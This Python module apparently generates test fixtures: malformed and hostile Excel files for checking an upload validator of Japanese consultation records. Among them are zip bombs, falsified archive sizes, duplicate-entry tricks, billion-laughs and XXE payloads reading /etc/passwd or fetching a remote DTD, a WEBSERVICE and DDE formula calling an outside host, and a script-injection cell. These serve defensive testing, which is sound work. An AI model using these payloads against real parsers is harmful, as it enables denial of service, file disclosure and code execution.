"""Files that mean harm or come by mistake, each made here byte by byte: no library would write them."""

import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
HEAD = ("相談日", "相談方法", "氏名", "主訴", "件数", "数えない理由")


def cell(at: str, text: str, inside: str = "") -> str:
    """A cell of text."""
    return f'<c r="{at}" t="inlineStr">{inside}<is><t xml:space="preserve">{text}</t></is></c>'


def row(number: int, *texts: str) -> str:
    """A row of texts from column A on."""
    cells = "".join(cell(f"{chr(65 + at)}{number}", text) for at, text in enumerate(texts))
    return f'<row r="{number}">{cells}</row>'


def sheet(*rows: str, before: str = "", after: str = "", prolog: str = "") -> str:
    """A worksheet of the rows."""
    return f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet {MAIN}>{before}<sheetData>{"".join(rows)}</sheetData>{after}</worksheet>'


def parts(front: str, *, workbook: str = "", **more: str) -> dict[str, bytes]:
    """The parts of a workbook with one sheet."""
    book = workbook or '<sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets>'
    texts = {
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook {MAIN} xmlns:r="{OFFICE}">{book}</workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": front,
        "xl/sharedStrings.xml": f"<sst {MAIN}></sst>",
        **{name.replace("__", "/"): text for name, text in more.items()},
    }
    return {name: text.encode() for name, text in texts.items()}


def packed(files: dict[str, bytes], how: int = ZIP_DEFLATED) -> bytes:
    """The parts as one file."""
    target = BytesIO()
    with ZipFile(target, "w", how) as archive:
        for name, content in files.items():
            archive.writestr(ZipInfo(name, (2024, 4, 1, 9, 0, 0)), content, how)
    return target.getvalue()


def book(*rows: str, **given: str) -> bytes:
    """A workbook of the rows below the usual head."""
    return packed(parts(sheet(row(1, *HEAD), *rows, **given)))


GOOD = ("R6.4.8", "電話", "", "住まい")


def with_part(name: str, content: bytes) -> bytes:
    """A good workbook with one part more, or another."""
    return packed({**parts(sheet(row(1, *HEAD), row(2, *GOOD))), name: content})


def lying(real: bytes, said: int) -> bytes:
    """A good workbook whose sheet says, at both places, that it unpacks to fewer bytes than it does."""
    squeezed = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = squeezed.compress(real) + squeezed.flush()
    files = {**parts(""), "xl/worksheets/sheet1.xml": b"?"}
    data = bytearray(packed(files, ZIP_STORED))
    name = b"xl/worksheets/sheet1.xml"
    local = data.rindex(b"PK\x03\x04", 0, data.index(name))
    at = local + 30 + len(name)
    struct.pack_into("<H", data, local + 8, 8)
    struct.pack_into("<II", data, local + 18, len(body), said)
    data[at : at + 1] = body
    grown = len(body) - 1
    central = data.rindex(b"PK\x01\x02", 0, data.rindex(name))
    struct.pack_into("<H", data, central + 10, 8)
    struct.pack_into("<II", data, central + 20, len(body), said)
    _move(data, local, grown)
    return bytes(data)


def _move(data: bytearray, after: int, by: int) -> None:
    """Let the directory point at parts that were moved."""
    at = data.index(b"PK\x01\x02")
    end = data.rindex(b"PK\x05\x06")
    struct.pack_into("<I", data, end + 16, at)
    while data[at : at + 4] == b"PK\x01\x02":
        (where,) = struct.unpack_from("<I", data, at + 42)
        if where > after:
            struct.pack_into("<I", data, at + 42, where + by)
        name, extra, comment = struct.unpack_from("<HHH", data, at + 28)
        at += 46 + name + extra + comment


def locked() -> bytes:
    """A good workbook whose parts are marked as encrypted."""
    data = bytearray(with_part("a.xml", b"<a/>"))
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 8] |= 1
        at += 4
    return bytes(data)


def ole(*names: str) -> bytes:
    """The beginning of an old file, with names in its directory."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\0") + b"".join(
        name.encode("utf-16-le").ljust(128, b"\0") for name in names
    ).ljust(4096, b"\0")


def entity(declaration: str) -> bytes:
    """A sheet with a document type."""
    texts = row(1, *HEAD) + row(2, "R6.4.8", "電話", "&a;", "住まい")
    return packed(parts(sheet(texts, prolog=f"<!DOCTYPE x [{declaration}]>")))


def nested(times: int) -> bytes:
    """An archive in an archive in an archive."""
    inner = b"0" * 1_000_000
    for _ in range(times):
        inner = packed({"a.zip": inner})
    return inner


LAUGHS = (
    '<!ENTITY l0 "ww">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + '<!ENTITY a "&l9;">'
)
ZEROS = b"0" * 200_000_000
LONG = sheet(row(1, *HEAD), row(2, *GOOD), after="<!--" + "x" * 60_000_000 + "-->").encode()


def everything() -> dict[str, bytes]:
    """Every file by what is wrong with it."""
    deep = "<a>" * 300_000
    shared = f"<sst {MAIN}>" + "<si><t>" + "あ" * 15_000_000 + "</t></si></sst>"
    return {
        "empty": b"",
        "png": b"\x89PNG\r\n\x1a\n" + b"\0" * 500,
        "html named xls": "<html><table><tr><td>相談日</td></tr></table></html>".encode("cp932"),
        "csv": "相談日,相談方法\n2024/4/8,電話\n".encode("cp932"),
        "utf-16 text": "相談日\t相談方法".encode("utf-16"),
        "truncated": book(row(2, *GOOD))[:-40],
        "cut in the middle": book(row(2, *GOOD))[:400],
        "plain zip": packed({"a.txt": b"a"}),
        "zip bomb": with_part("xl/media/a.bin", ZEROS),
        "bomb in the sheet": packed({**parts(""), "xl/worksheets/sheet1.xml": LONG}),
        "nested archives": nested(4),
        "archive inside": with_part("xl/embeddings/a.xlsx", book(row(2, *GOOD))),
        "lying size": lying(LONG, 1_000),
        "lying a little": lying(sheet(row(1, *HEAD), row(2, *GOOD)).encode(), 10),
        "many parts": packed({**parts(sheet(row(1, *HEAD))), **{f"xl/a{n}.xml": b"<a/>" for n in range(5_000)}}),
        "billion laughs": entity(LAUGHS),
        "external entity": entity('<!ENTITY a SYSTEM "file:///etc/passwd">'),
        "external document type": entity('<!ENTITY % p SYSTEM "http://192.0.2.1/x">%p;'),
        "utf-16 sheet": with_part("xl/worksheets/sheet1.xml", sheet(row(1, *HEAD)).encode("utf-16")),
        "cell far to the right": book(f'<row r="2">{cell("XFD2", "x")}</row>'),
        "cell far below": book(row(1_048_576, *GOOD)),
        "impossible cell": book(f'<row r="2">{cell("ZZZZZZZ2", "x")}</row>'),
        "deep nesting": book(row(2, "いつか", "電話"), before=deep),
        "huge shared strings": with_part("xl/sharedStrings.xml", shared.encode()),
        "locked zip": locked(),
        "locked workbook": ole("EncryptionInfo", "EncryptedPackage"),
        "old file with macros": ole("Workbook", "_VBA_PROJECT"),
        "old file cut off": ole("Workbook"),
        "word document": ole("WordDocument"),
        "macros": with_part("xl/vbaProject.bin", b"\xcc\x61"),
        "broken xml": with_part("xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row><c"),
        "not a sheet": with_part("xl/worksheets/sheet1.xml", b"<html>\xe7\x9b\xb8</html>"),
        "no workbook": packed({"[Content_Types].xml": b"<Types/>", "a.xml": b"<a/>"}),
        "binary workbook": packed({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\0" * 100}),
        "same part twice": _twice(),
        "double heads": packed(parts(sheet(row(1, *HEAD, "日付"), row(2, *GOOD)))),
        "missing columns": packed(parts(sheet(row(1, "日付", "氏名"), row(2, "R6.4.8", "見本")))),
        "hidden sheet alone": packed(
            parts(
                sheet(row(1, *HEAD), row(2, *GOOD)),
                workbook='<sheets><sheet name="S" sheetId="1" state="hidden" r:id="r1"/></sheets>',
            )
        ),
        "head alone": book(),
        "too many rows": book(*(f'<row r="{n}">{cell(f"A{n}", "R6.4.8")}{cell(f"B{n}", "電話")}</row>' for n in range(2, 5_092))),
        "too large": b"PK\x03\x04" + b"0" * 6_000_000,
        # What can be read, and is wrong in its cells.
        "serial of the day that never was": book(f'<row r="2"><c r="A2"><v>60</v></c>{cell("B2", "電話")}</row>'),
        "not a number": book(f'<row r="2"><c r="A2"><v>NaN</v></c>{cell("B2", "電話")}</row>'),
        "infinity": book(f'<row r="2"><c r="A2"><v>1e999</v></c>{cell("B2", "電話")}</row>'),
        "negative day": book(f'<row r="2"><c r="A2"><v>-5</v></c>{cell("B2", "電話")}</row>'),
        "error value": book(f'<row r="2"><c r="A2" t="e"><v>#N/A</v></c>{cell("B2", "電話")}</row>'),
        "control characters": book(row(2, "R6.4.8", "電話", "a&#1;b_x0000_c", "？")),
        "formula": book(f'<row r="2">{cell("A2", "R6.4.8")}<c r="B2" t="str"><f>WEBSERVICE("http://192.0.2.1/")</f><v>=cmd|calc</v></c></row>'),
        "hyperlink": book(
            row(2, "R6.4.8", "http://192.0.2.1/"),
            after='<hyperlinks><hyperlink ref="B2" display="x" location="http://192.0.2.1/"/></hyperlinks>',
        ),
        "merged days": book(row(2, "R6.4.8", "電話"), row(3, "", "電話"), after='<mergeCells><mergeCell ref="A2:A3"/></mergeCells>'),
        "script in a cell": book(row(2, "R6.4.8", "&lt;script&gt;alert(1)&lt;/script&gt;")),
    }  # fmt: skip


def _twice() -> bytes:
    """Two parts of one name: one for the guard, one for the reader."""
    good = parts(sheet(row(1, *HEAD), row(2, *GOOD)))
    data = packed({**good, "xl/worksheets/sheetX.xml": b"<a/>"})
    return data.replace(b"xl/worksheets/sheetX.xml", b"xl/worksheets/sheet1.xml")
